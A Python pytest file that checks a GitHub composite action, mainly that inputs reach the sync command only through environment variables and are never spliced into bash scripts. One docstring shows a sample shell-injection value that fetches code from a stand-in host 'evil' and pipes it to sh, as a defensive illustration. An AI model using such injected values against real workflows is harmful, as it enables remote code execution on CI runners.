"""The GitHub Action (action.yml): one input per setting, each reaching the
command as its PLUGIN_* variable, and no input ever spliced into a script.

Generic over config.OPTIONS: a setting added without an input (or an input
left behind by a removed setting) fails here. What the action does when run
is in tests/integration/test_action_e2e.py.
"""

from __future__ import annotations

import json
import re
import subprocess
from pathlib import Path
from typing import Any, Dict, List

import pytest
import yaml

from drone_s3_sync.config import OPTION_NAMES, OPTIONS, Option

ROOT = Path(__file__).resolve().parents[2]
ACTION = ROOT / "action.yml"
EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")


def load_action() -> Dict[str, Any]:
    return yaml.safe_load(ACTION.read_text(encoding="utf-8"))


def steps() -> List[Dict[str, Any]]:
    return load_action()["runs"]["steps"]


def sync_step() -> Dict[str, Any]:
    found = [s for s in steps() if s.get("id") == "sync"]
    assert len(found) == 1, "action.yml needs exactly one step with id: sync"
    return found[0]


def input_snippet(option: Option) -> str:
    """What action.yml needs for a setting (shown when one is missing; scripts/update-action writes it)."""
    return (f"run scripts/update-action, or add:\n  {option.name}:\n    description: {json.dumps(option.help)}\n    required: false\n"
            f"--- and in the sync step's env:\n        {option.env[0]}: ${{{{ inputs.{option.name} }}}}")


def step(step_id: str) -> Dict[str, Any]:
    (found,) = [s for s in steps() if s.get("id") == step_id]
    return found


def test_is_a_composite_action_that_installs_from_its_own_checkout() -> None:
    action = load_action()
    assert action["runs"]["using"] == "composite"
    install = step("install")
    # The checkout of the action itself (the ref in `uses: owner/drone-s3-sync@ref`),
    # not a registry release that may differ from it.
    assert install["env"]["ACTION_PATH"] == "${{ github.action_path }}"
    assert 'pip install' in install["run"] and '"$ACTION_PATH"' in install["run"]
    # Into a venv under the runner's temp folder, not the job's Python.
    assert '"$venv"' in install["run"] and "-m venv" in install["run"]
    assert install["env"]["VENV"] == "${{ steps.key.outputs.venv }}"
    assert 'venv=$RUNNER_TEMP/' in step("key")["run"]
    assert sync_step()["env"]["DRONE_S3_SYNC"] == "${{ steps.install.outputs.command }}"
    assert action["outputs"]["summary"]["value"] == "${{ steps.sync.outputs.summary }}"


@pytest.mark.parametrize("name", OPTION_NAMES)
def test_every_setting_has_an_input(name: str) -> None:
    option = {o.name: o for o in OPTIONS}[name]
    inputs = load_action()["inputs"]
    assert name in inputs, f"action.yml has no input for the setting {name!r}; add:\n{input_snippet(option)}"
    spec = inputs[name]
    assert spec["description"] == option.help, f"copy the setting's help:\n{input_snippet(option)}"
    # Optional and without a default: an unset input is an empty variable, which
    # the command ignores, so its own defaults and the AWS_* fallbacks apply.
    assert spec.get("required", False) is False
    assert "default" not in spec


@pytest.mark.parametrize("name", OPTION_NAMES)
def test_every_input_reaches_the_command_as_its_plugin_variable(name: str) -> None:
    option = {o.name: o for o in OPTIONS}[name]
    var = "PLUGIN_" + name.upper()
    assert option.env[0] == var, "the first variable of a setting is its PLUGIN_* name"
    env = sync_step()["env"]
    assert env.get(var) == f"${{{{ inputs.{name} }}}}", f"map the input in the sync step's env:\n{input_snippet(option)}"


def test_no_input_or_variable_without_a_setting() -> None:
    action = load_action()
    assert set(action["inputs"]) == set(OPTION_NAMES), "inputs for unknown settings: " + \
        ", ".join(sorted(set(action["inputs"]) - set(OPTION_NAMES)))
    plugin_vars = {k for k in sync_step()["env"] if k.startswith("PLUGIN_")}
    assert plugin_vars == {"PLUGIN_" + n.upper() for n in OPTION_NAMES}
    # Every `inputs.x` anywhere in the action names a declared input.
    used = set(re.findall(r"\binputs\.([A-Za-z0-9_-]+)", ACTION.read_text(encoding="utf-8")))
    assert used <= set(action["inputs"]), used - set(action["inputs"])


def test_no_expression_is_ever_spliced_into_a_script() -> None:
    """GitHub substitutes ${{ }} into `run:` text before bash sees it, so an
    input there is shell code (a bucket named `x"; curl evil | sh; "`). The
    values travel as environment variables only."""
    for step in steps():
        script = step.get("run", "")
        assert not EXPRESSION.search(script), f"step {step.get('name')!r}: ${{{{ }}}} inside run:"
        assert "inputs." not in script
        for key, value in step.get("env", {}).items():
            # Each env value is one whole expression, never text around one.
            assert EXPRESSION.fullmatch(str(value)), f"{key}: {value!r}"


def test_scripts_are_valid_bash() -> None:
    for step in steps():
        if "run" in step:
            assert step["shell"] == "bash"
            proc = subprocess.run(["bash", "-n"], input=step["run"], capture_output=True, text=True)
            assert proc.returncode == 0, f"{step.get('name')}: {proc.stderr}"


def run_script(script: str, env: Dict[str, str], tmp_path: Path) -> Dict[str, str]:
    """A step's `run:` script as the runner runs it; returns what it wrote to GITHUB_OUTPUT."""
    output = tmp_path / "github_output"
    output.write_text("")
    full = {"PATH": "/usr/bin:/bin", "RUNNER_OS": "Linux", "RUNNER_TEMP": str(tmp_path),
            "GITHUB_OUTPUT": str(output), **env}
    proc = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
                          env=full, capture_output=True, text=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    return dict(line.split("=", 1) for line in output.read_text().splitlines())


def copy_action(dest: Path) -> Path:
    for name in ("setup.cfg", "setup.py", "pyproject.toml"):
        (dest / name).write_bytes((ROOT / name).read_bytes())
    (dest / "drone_s3_sync").mkdir()
    for source in (ROOT / "drone_s3_sync").glob("*.py"):
        (dest / "drone_s3_sync" / source.name).write_bytes(source.read_bytes())
    return dest


def test_the_environment_is_cached_keyed_on_the_actions_own_files(tmp_path: Path) -> None:
    """The key changes with any file of the package (a new version, or another
    commit at the same ref), with brotli, and is stable otherwise; the cache is
    restored before the install and saved only after one that installed."""
    (tmp_path / "action").mkdir()
    action = copy_action(tmp_path / "action")
    script = step("key")["run"]

    def key(compress: str = "") -> str:
        return run_script(script, {"ACTION_PATH": str(action), "COMPRESS": compress}, tmp_path)["key"]

    first = key()
    assert first.startswith("drone-s3-sync-Linux-") and first == key()
    assert key("br") == first + "-br" and key('{".html": "gzip"}') == first
    with open(action / "drone_s3_sync" / "model.py", "a") as changed:
        changed.write("\n# another commit\n")
    assert key() != first

    names = [s.get("id") for s in steps()]
    assert names.index("key") < names.index("cache") < names.index("install")
    assert step("cache")["uses"].startswith("actions/cache/restore@")
    (save,) = [s for s in steps() if str(s.get("uses", "")).startswith("actions/cache/save@")]
    assert names.index("install") < steps().index(save) < names.index("sync")
    assert save["if"] == "steps.install.outputs.installed == 'true'"
    for cached in (step("cache"), save):
        assert cached["with"] == {"path": "${{ steps.key.outputs.venv }}", "key": "${{ steps.key.outputs.key }}"}


def test_a_restored_environment_that_runs_is_used_without_installing(tmp_path: Path) -> None:
    venv = tmp_path / "venv"
    (venv / "bin").mkdir(parents=True)
    for name in ("python", "drone-s3-sync"):
        (venv / "bin" / name).write_text("#!/bin/sh\nexit 0\n")
        (venv / "bin" / name).chmod(0o755)
    outputs = run_script(step("install")["run"], {"VENV": str(venv), "ACTION_PATH": "/nonexistent"}, tmp_path)
    assert outputs == {"command": f"{venv}/bin/drone-s3-sync"}  # no `installed`: nothing to save
